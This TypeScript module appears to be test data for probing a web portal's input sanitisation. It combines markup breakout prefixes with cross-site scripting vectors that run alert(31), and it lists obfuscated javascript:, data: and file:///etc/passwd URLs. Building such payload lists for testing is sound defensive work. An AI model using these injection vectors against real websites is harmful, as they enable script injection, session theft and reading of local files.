/** Prefixes that try to break out of the surrounding markup. */
const contexts = ['', '">', "'>", '`>', '</script>', '</style>', '</textarea>', '</title>', '-->', ']]>', '\u0000', '{{7*7}}${7*7}']

/** Scripts that run `alert(31)` if parsed as markup. */
const vectors = [
  '<script>alert(31)</script>',
  '<ScRiPt src=data:text/javascript,alert(31)></sCrIpT>',
  '<img src=x onerror=alert(31)>',
  '<img/src=`x`/onerror=alert(31)//',
  '<svg onload=alert(31)>',
  '<svg><script href=data:,alert(31) />',
  '<svg><animate onbegin=alert(31) attributeName=x dur=1s>',
  '<body onpageshow=alert(31)>',
  '<details open ontoggle=alert(31)>',
  '<video><source onerror=alert(31)></video>',
  '<audio src=x onerror=alert(31)>',
  '<input autofocus onfocus=alert(31)>',
  '<select autofocus onfocus=alert(31)>',
  '<iframe srcdoc="<script>parent.alert(31)</script>">',
  '<iframe src="javascript:alert(31)">',
  '<object data="javascript:alert(31)">',
  '<embed src="javascript:alert(31)">',
  '<a href="javascript:alert(31)" autofocus>x</a>',
  '<a href="java\tscript:alert(31)">x</a>',
  '<form action="javascript:alert(31)"><button autofocus>x</button></form>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(31)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(31)">',
  '<base href="javascript:alert(31)//">',
  '<style>@import "javascript:alert(31)";*{background:url(javascript:alert(31))}</style>',
  '<link rel=stylesheet href="data:text/css,*{background:url(javascript:alert(31))}">',
  '<p style="animation:x" onanimationstart=alert(31)>x',
]

/** More than two hundred disguised script injections, to be entered into the fields of a portal. */
export const scriptPayloads: readonly string[] = contexts.flatMap((context) => vectors.map((vector) => context + vector))

/** URLs that run scripts or lead to other sites, for fields and links that expect a web address. */
export const badUrls: readonly string[] = [
  'javascript:alert(31)',
  'JaVaScRiPt:alert(31)',
  ' javascript:alert(31)',
  '\u0001javascript:alert(31)',
  'java\tscript:alert(31)',
  'java\nscript:alert(31)',
  'java\r\nscript:alert(31)',
  'javascript\u00a0:alert(31)',
  'javascript&colon;alert(31)',
  '&#106;avascript:alert(31)',
  '&#x6A;&#x61;vascript:alert(31)',
  'javascript://example.com/%0aalert(31)',
  'data:text/html,<script>alert(31)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgzMSk8L3NjcmlwdD4=',
  'DATA:text/html,x',
  'vbscript:msgbox(31)',
  'file:///etc/passwd',
  'blob:https://example.com/x',
  'about:blank#x',
  'view-source:javascript:alert(31)',
  'feed:javascript:alert(31)',
  'jar:https://example.com!/x',
  'ws://example.com/x',
  'intent://example.com#Intent;scheme=javascript;end',
]
